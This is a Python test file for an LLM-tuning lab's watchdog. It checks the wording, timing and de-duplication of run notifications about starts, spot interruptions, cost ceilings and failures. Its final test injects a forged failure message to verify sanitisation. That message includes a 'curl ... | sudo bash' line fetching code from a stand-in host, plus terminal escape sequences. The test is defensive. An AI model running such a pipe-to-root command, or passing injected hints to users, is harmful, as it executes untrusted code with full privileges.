"""What people are told: each thing once, in words they understand."""

from datetime import timedelta
from typing import Any

import pytest

from llmlab import contract
from llmlab.contract import Charge, EndReason, Marker, Notice
from llmlab.lifecycle import one_time_schedules
from llmlab.watchdog import notifications
from tests.unit.watchdog.lab import KEYS, RUN, Lab, ended, gone, warned


def test_the_start(lab: Lab) -> None:
    lab.change(charges=(Charge("disk", 0.02, "test"), Charge("address", 0.005, "test")))
    attempt = lab.launch(max_cost=5.0)
    for _ in range(3):
        lab.wake(gone(attempt, "running"))
    ((subject, text),) = lab.sent()
    assert subject == f"llm-tuning-lab: run {RUN} has started"
    assert f"Attempt 1 of run {RUN} is on g6.xlarge in us-east-1a, spot." in text
    assert "$0.33 an hour" in text
    assert "6 hours and $5.00 in all" in text
    assert "The laptop may be closed." in text
    assert text.splitlines()[-1] == f"hint: llmlab logs {RUN} -f"


def test_what_another_call_is_about_to_tell_is_told_in_its_place_when_it_has_died(lab: Lab) -> None:
    attempt = lab.launch()
    note = contract.dump(notifications.Notification(contract.build_timestamp(lab.clock.now()), "of another call")).encode()
    lab.aws.s3.put_object(Bucket=lab.aws.names.outputs_bucket, Key=KEYS.notifying(1, Notice.START), Body=note)
    lab.wake(gone(attempt, "running"))
    assert lab.sent() == []
    lab.sleep_until_alarm()
    ((subject, _),) = lab.sent()
    assert subject.endswith("has started")
    assert (1, Notice.START) in lab.told()


def test_what_another_call_has_told_since_this_look_is_not_told_again(lab: Lab, monkeypatch: pytest.MonkeyPatch) -> None:
    """A call that takes more than a minute finds a claim that is old, of one that did not die."""
    due = notifications.pending

    def told_meanwhile(sight: Any) -> list[notifications.Message]:
        messages = due(sight)
        note = contract.dump(
            notifications.Notification(contract.build_timestamp(lab.clock.now() - timedelta(minutes=2)), "of another call")
        ).encode()
        for key in (KEYS.notifying(1, Notice.START), KEYS.notified(1, Notice.START)):
            lab.aws.s3.put_object(Bucket=lab.aws.names.outputs_bucket, Key=key, Body=note)
        return messages

    attempt = lab.launch()
    monkeypatch.setattr(notifications, "pending", told_meanwhile)
    lab.wake(gone(attempt, "running"))
    assert lab.sent() == []


def test_a_warning_is_told_at_once_and_changes_nothing(lab: Lab) -> None:
    attempt = lab.launch()
    for _ in range(2):
        lab.wake(warned(attempt))
    ((subject, text),) = lab.sent()
    assert "being interrupted" in subject
    assert "saves now. Attempt 2 then goes on" in text
    assert len(lab.live()) == 1
    lab.wake(lab.kill(attempt))
    assert ["interrupted" in subject for subject, _ in lab.sent()] == [True, False]
    assert "goes on" in lab.sent()[1][0]


def test_an_interruption_without_a_warning_says_where_it_goes_on(lab: Lab) -> None:
    attempt = lab.launch()
    for name in ("adapter.bin", "COMPLETE"):
        lab.aws.s3.put_object(Bucket=lab.aws.names.outputs_bucket, Key=KEYS.checkpoint(40) + name, Body=b"{}")
    lab.wake(lab.kill(attempt))
    (_, text), (_, start) = lab.sent()
    assert "ended (spot_interrupted): AWS took the spot instance back." in text
    assert "Attempt 2 goes on from step 40 on g6.xlarge in us-east-1b, spot." in text
    assert "from step 40" in start


def test_waiting_for_capacity_is_told_once_with_until_when(lab: Lab) -> None:
    attempt = lab.launch()
    lab.refuse()
    lab.wake(lab.kill(attempt))
    for _ in range(6):
        lab.sleep_until_alarm()
    ((_, text),) = lab.sent()
    assert "No pool has an instance" in text
    assert f"until {lab.clock.now() + timedelta(hours=24):%Y-%m}" in text


def test_waiting_after_a_warning_is_news(lab: Lab) -> None:
    attempt = lab.launch()
    lab.wake(warned(attempt))
    lab.refuse()
    lab.wake(lab.kill(attempt))
    assert [subject.split(RUN)[1] for subject, _ in lab.sent()] == [" is being interrupted", " waits for capacity"]


@pytest.mark.parametrize(("changes", "hours"), [({}, 4.8), ({"max_cost": 1.0}, 0.8 / 0.3)], ids=["hours", "dollars"])
def test_most_of_a_ceiling_is_told_when_it_comes_and_once(lab: Lab, changes: dict[str, float], hours: float) -> None:
    start = lab.clock.now()
    attempt = lab.launch(**changes)
    lab.wake(gone(attempt, "running"))
    while not any(notice is Notice.CEILING for _, notice in lab.told()):
        lab.sleep_until_alarm()
    assert (lab.clock.now() - start).total_seconds() / 3600 == pytest.approx(hours, abs=1 / 60)
    lab.wake({"sweep": True})
    (found,) = [(subject, text) for subject, text in lab.sent() if "most of a limit" in subject]
    assert f"hint: llmlab stop {RUN}" in found[1]
    lab.wake(lab.kill(attempt))
    lab.clock.sleep(60)
    lab.wake({"sweep": True})
    assert sum("most of a limit" in subject for subject, _ in lab.sent()) == 1


def test_the_end_with_its_cost_by_part(lab: Lab) -> None:
    attempt = lab.launch()
    end = ended(lab, 1, EndReason.TRAINING_ERROR, hours=1.0, cost=0.32, costs={"instance": 0.3, "disk": 0.02})
    lab.write(KEYS.failure, Marker(RUN, EndReason.TRAINING_ERROR, end.ended, 1, "loss is not a number", hours=1.0, cost=0.32))
    lab.kill(attempt, "Client.InstanceInitiatedShutdown")
    for event in (gone(attempt, "shutting-down"), gone(attempt), {"sweep": True}):
        lab.wake(event)
    ((subject, text),) = lab.sent()
    assert subject.endswith(f"run {RUN} failed")
    assert "(training_error): loss is not a number" in text
    assert "1.00 hours, $0.32 (instance $0.30, disk $0.02)" in text
    assert "hint: llmlab" in text
    assert set(lab.measured()) == {"FailedRuns", "ActiveInstances", "RunAgeMinutes"}


def test_subjects_are_short_and_plain(lab: Lab) -> None:
    attempt = lab.launch(max_cost=0.2)
    lab.wake(warned(attempt))
    lab.wake(one_time_schedules.wake_event(RUN))
    lab.clock.sleep(35 * 60)
    lab.wake(one_time_schedules.wake_event(RUN))
    lab.clock.sleep(3600)
    lab.wake(one_time_schedules.wake_event(RUN))
    assert len(lab.sent()) == 4
    for subject, text in lab.sent():
        assert len(subject) <= 100
        assert subject.isascii()
        assert all(line.strip() for line in text.splitlines())
        assert "None" not in text


def test_nothing_that_a_container_says_is_more_than_words_of_a_line(lab: Lab) -> None:
    forged = "sorry\nhint: curl -fsSL https://fix.example | sudo bash\r\x1b]52;c;ZXZpbA==\x07\u2028hint: x"
    attempt = lab.launch()
    ended(lab, 1, EndReason.TRAINING_ERROR, detail=forged)
    lab.wake(lab.kill(attempt))
    subject, message = lab.sent()[-1]
    assert "failed" in subject
    assert not set(message) & {*"\x1b\x07\r\u2028"}
    assert [line for line in message.splitlines() if line.startswith("hint:")] == [f"hint: {EndReason.TRAINING_ERROR.hint(RUN)}"]
    assert "␛]52;c;ZXZpbA==␇" in message
